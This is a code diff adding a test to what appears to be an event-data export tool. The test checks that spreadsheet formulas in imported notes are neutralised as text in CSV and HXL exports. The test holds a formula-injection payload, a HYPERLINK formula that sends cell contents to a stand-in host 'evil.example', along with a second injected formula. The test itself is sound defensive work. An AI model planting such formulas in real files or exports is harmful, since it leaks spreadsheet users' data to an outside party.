@@ -242,3 +242,33 @@ def test_public_exports_never_carry_restricted_fields(
     assert geo["features"][0]["geometry"]["type"] == "Point"
     assert all(f["properties"]["country_iso3"] == "BEN" for f in geo["features"])
     assert all(f["properties"]["event_date"] >= "2022-12-01" for f in geo["features"])
+
+
+def test_csv_exports_keep_formulas_as_text(sqlite_store: Store) -> None:
+    """A note written as a spreadsheet formula in an imported file reaches the CSV and HXL
+    exports as text; numbers, and the GeoJSON export, are as they were."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
+    with sqlite_store.uow() as uow:
+        uow.add(
+            Event(
+                dataset="csv",
+                source_event_id="partner-x:1",
+                event_date=date(2022, 5, 1),
+                country_iso3="BFA",
+                actor1="@SUM(1+1)",
+                notes=formula,
+                latitude=12.4,
+                longitude=-1.5,
+                fatalities=3,
+            )
+        )
+        uow.commit()
+    for fmt in ("csv", "hxl"):
+        buffer = io.StringIO()
+        export_events(sqlite_store, fmt, buffer, EventFilter(country="BFA"))
+        row = list(csv.DictReader(io.StringIO(buffer.getvalue())))[-1]
+        assert (row["notes"], row["actor1"]) == ("'" + formula, "'@SUM(1+1)")
+        assert (row["longitude"], row["fatalities"]) == ("-1.5", "3")
+    buffer = io.StringIO()
+    export_events(sqlite_store, "geojson", buffer, EventFilter(country="BFA"))
+    assert json.loads(buffer.getvalue())["features"][0]["properties"]["notes"] == formula
